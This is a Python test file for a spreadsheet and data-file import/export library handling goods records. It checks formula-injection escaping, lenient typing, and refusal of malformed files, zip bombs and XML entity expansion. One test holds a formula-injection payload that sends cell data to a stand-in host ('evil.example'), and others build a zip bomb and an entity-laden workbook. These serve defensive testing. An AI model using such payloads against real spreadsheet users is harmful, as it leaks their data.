"""The four forms of a book: what they read alike, what they refuse, and what a spreadsheet must not execute."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from cloud.load import formats, limits, workbook
from cloud.load.book import BadBook, Line
from cloud.load.cells import guarded, unguarded
from cloud.load.columns import Columns, Refused
from cloud.load.dump import write_template
from cloud.load.formats import read_book, write_book
from cloud.load.nouns import NOUNS
from cloud.load.nouns.goods import GOODS, GoodsRow

EXECUTABLE = ("=", "+", "-", "@", "\t", "\r", "\n")


# --- cells ---


@given(st.text())
def test_a_guarded_text_is_no_formula_and_reads_back_as_it_was(text: str) -> None:
    cell = guarded(text)
    assert not cell.startswith(EXECUTABLE)
    assert unguarded(cell) == text


@given(st.text("'=+-@a\t", max_size=6))
def test_apostrophes_of_the_text_itself_survive(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("name", ["book", "book.xlsx"])
def test_no_exported_cell_begins_like_a_formula(tmp_path: Path, name: str) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    row = GoodsRow(brand="acme", goods="g1", name=attack, price_fen=1, barcode="+1", archived=False)
    with write_book(tmp_path / name) as write_sheet:
        write_sheet("goods", GOODS.columns.all, [row])
    if name == "book":
        text = (tmp_path / name / "goods.csv").read_text(encoding="utf-8-sig")
        assert "\"'=HYPERLINK" in text
        assert ",'+1," in text
    else:
        sheet = openpyxl.load_workbook(tmp_path / name)["goods"]
        cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
        types = {column.name: cell.data_type for column, cell in zip(GOODS.columns.all, cells, strict=True)}
        wanted = {"name": "s", "price_fen": "n", "barcode": "s", "archived": "b"}
        assert {name: types[name] for name in wanted} == wanted
        assert cells[2].value == f"'{attack}"
    (read,) = read_book(tmp_path / name).sheets
    assert read.lines[0].cells["name"] == attack


# --- typing ---


def columns() -> Columns[GoodsRow]:
    return GOODS.columns


@pytest.mark.parametrize(
    ("cells", "values"),
    [
        ({"price_fen": "300", "archived": "是"}, {"price_fen": 300, "archived": True}),
        ({"price_fen": 300.0, "archived": "no"}, {"price_fen": 300, "archived": False}),
        # A spreadsheet turns a bar code into a number; a text column takes it back.
        ({"barcode": 6901234567892, "name": 7.0}, {"barcode": "6901234567892", "name": "7"}),
        ({"barcode": None, "archived": ""}, {"barcode": "", "archived": False}),
    ],
)
def test_cells_are_typed_leniently(cells: dict[str, object], values: dict[str, object]) -> None:
    assert columns().values(cells) == values


@pytest.mark.parametrize("wrong", [{"price_fen": "3.5"}, {"price_fen": -1}, {"archived": "maybe"}, {"name": "a\x00"}])
def test_what_cannot_be_meant_is_refused_by_column(wrong: dict[str, object]) -> None:
    with pytest.raises(Refused) as refused:
        columns().values({"goods": "g1", **wrong})
    ((column, value, reason),) = refused.value.objections
    assert (column, value) == next(iter(wrong.items()))
    assert reason


# --- what people hand in ---


def test_headers_may_be_chinese_and_remarks_are_skipped(tmp_path: Path) -> None:
    folder = tmp_path / "book"
    folder.mkdir()
    (folder / "商品.csv").write_text("商品编号,商品名称,#备注\nVG9,百事,旧系统\n\nVG13,可口,\n", encoding="gb18030")
    (folder / "#notes.csv").write_text("anything\n", encoding="utf-8")
    (sheet,) = read_book(folder).sheets
    assert (sheet.name, sheet.header) == ("商品", ("商品编号", "商品名称", "#备注"))
    assert [line.number for line in sheet.lines] == [2, 4]
    assert [columns().named(name) for name in sheet.header] == ["goods", "name", None]


def test_a_workbook_of_formulas_counts_as_what_it_shows(tmp_path: Path) -> None:
    with xlsxwriter.Workbook(str(tmp_path / "book.xlsx")) as book:
        sheet = book.add_worksheet("商品")
        sheet.write_row(0, 0, ["goods", "price_fen", "archived"])
        sheet.write_formula(1, 0, '="VG"&9', None, "VG9")
        sheet.write_number(1, 1, 300)
        sheet.write_boolean(1, 2, True)
    (read,) = read_book(tmp_path / "book.xlsx").sheets
    assert read.lines == [Line(2, {"goods": "VG9", "price_fen": 300, "archived": True})]


def test_plain_yaml_scalars_stay_text(tmp_path: Path) -> None:
    path = tmp_path / "book.yaml"
    path.write_text(
        "goods:\n- {goods: 00001, name: no, barcode: ~}\n-\n  goods: 1e3\n  name: 'null'\n", encoding="utf-8"
    )
    (sheet,) = read_book(path).sheets
    assert sheet.lines == [
        Line(2, {"goods": "00001", "name": "no", "barcode": None}),
        Line(4, {"goods": "1e3", "name": "null"}),
    ]


@pytest.mark.parametrize("name", ["book.yaml", "book.json", "book.xlsx", "book"])
def test_a_template_has_every_noun_and_column(tmp_path: Path, name: str) -> None:
    write_template(tmp_path / name)
    sheets = {sheet.name: sheet for sheet in read_book(tmp_path / name).sheets}
    assert sheets.keys() == {noun.name for noun in NOUNS}
    for noun in NOUNS:
        assert sheets[noun.name].lines == []
        if name in ("book.xlsx", "book"):
            assert sheets[noun.name].header == tuple(column.name for column in noun.columns.all)


# --- what is refused, and why ---

Make = Callable[[Path], Path]


def text(name: str, content: str | bytes) -> Make:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return make


def zipped(**members: str | bytes) -> Make:
    def make(folder: Path) -> Path:
        with zipfile.ZipFile(folder / "book.xlsx", "w", zipfile.ZIP_DEFLATED) as file:
            for name, content in members.items():
                file.writestr(name.replace("__", "/"), content)
        return folder / "book.xlsx"

    return make


def folder_without_csv(folder: Path) -> Path:
    (folder / "empty").mkdir()
    return folder / "empty"


REFUSED: list[tuple[Make, str]] = [
    (text("book.txt", ""), "expected a folder of CSV files, or a file ending in"),
    (text("book.yaml", ""), "is empty"),
    (text("book.yaml", "- a\n"), "is not what is expected here: a mapping of nouns"),
    (text("book.yaml", "goods: {a: b}\n"), "a list of lines"),
    (text("book.yaml", "goods:\n- [a]\n"), "a line: a mapping of columns to values"),
    (text("book.yaml", "goods:\n- {a: 1, a: 2}\n"), "line 2, column 10: 'a' appears twice"),
    (text("book.yaml", "goods:\n- &x {a: 1}\n- *x\n"), "is an anchor or alias"),
    (text("book.yaml", "goods:\n- {a: " + "[" * 50 + "]" * 50 + "}\n"), "is nested deeper than"),
    (text("book.yaml", "goods: []\n---\ngoods: []\n"), "holds several documents"),
    (text("book.yaml", "goods: [\n"), "while parsing"),
    (text("book.yaml", b"goods: \xff\n"), "invalid"),
    (text("book.json", "{"), "Input data was truncated"),
    (text("book.json", '{"goods": [1]}'), "Expected `object`, got `int`"),
    (text("book.json", '{"goods": [' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "]}"), ""),
    (text("goods.csv", "a,a\n"), "two columns are called 'a'"),
    (text("goods.csv", "a,,b\n"), "column 2 has no name"),
    (text("goods.csv", "a\n1,2\n"), "row 2 has 2 cells under 1 columns"),
    (text("goods.csv", 'a\n"1\n'), "unexpected end of data"),
    (text("goods.csv", b"a\n\xff\xff\n"), "is neither UTF-8 nor GB 18030"),
    (text("goods.csv", ",".join(f"c{n}" for n in range(limits.COLUMNS_MAX + 1))), "columns, expected at most"),
    (folder_without_csv, "no CSV file is in this folder"),
    (text("book.xlsx", "no zip"), "is no XLSX workbook"),
    (zipped(a="b"), "is no workbook that can be read"),
]


@pytest.mark.parametrize(("make", "reason"), REFUSED, ids=[reason or "nested JSON" for _, reason in REFUSED])
def test_what_is_no_book_is_refused_with_its_reason(tmp_path: Path, make: Make, reason: str) -> None:
    with pytest.raises(BadBook, match=r".*") as refused:
        read_book(make(tmp_path))
    assert reason in str(refused.value)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "UNPACKED_BYTES_MAX", 1_000_000)
    bomb = zipped(xl__sharedStrings="\0" * 5_000_000)(tmp_path)
    assert bomb.stat().st_size < 10_000
    with pytest.raises(BadBook, match="unpacks to 5000000 bytes, expected at most 1000000"):
        read_book(bomb)
    parts = zipped(**{f"part{n}": "" for n in range(limits.ZIP_MEMBERS_MAX + 1)})(tmp_path)
    with pytest.raises(BadBook, match="holds 1001 parts"):
        read_book(parts)


def test_entities_of_a_workbook_are_not_expanded(tmp_path: Path) -> None:
    with xlsxwriter.Workbook(str(tmp_path / "good.xlsx")) as book:
        book.add_worksheet("goods").write_string(0, 0, "goods")
    with zipfile.ZipFile(tmp_path / "good.xlsx") as good, zipfile.ZipFile(tmp_path / "bad.xlsx", "w") as bad:
        for name in good.namelist():
            content = good.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><worksheet', 1)
            bad.writestr(name, content)
    with pytest.raises(BadBook, match="EntitiesForbidden"):
        read_book(tmp_path / "bad.xlsx")


def test_files_and_lines_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = text("book.yaml", "goods:\n" + "- {goods: a}\n" * 20)(tmp_path)
    monkeypatch.setattr(formats, "LINES_MAX", 10)
    with pytest.raises(BadBook, match="has more than 10 lines"):
        read_book(path)
    monkeypatch.setattr(formats, "FILE_BYTES_MAX", 100)
    with pytest.raises(BadBook, match="are more than the 100"):
        read_book(path)


def test_a_dump_that_fails_leaves_what_was_there(tmp_path: Path) -> None:
    path = text("book.yaml", "old")(tmp_path)
    with pytest.raises(RuntimeError), write_book(path):
        raise RuntimeError
    assert path.read_text(encoding="utf-8") == "old"
    assert [one.name for one in tmp_path.iterdir()] == ["book.yaml"]
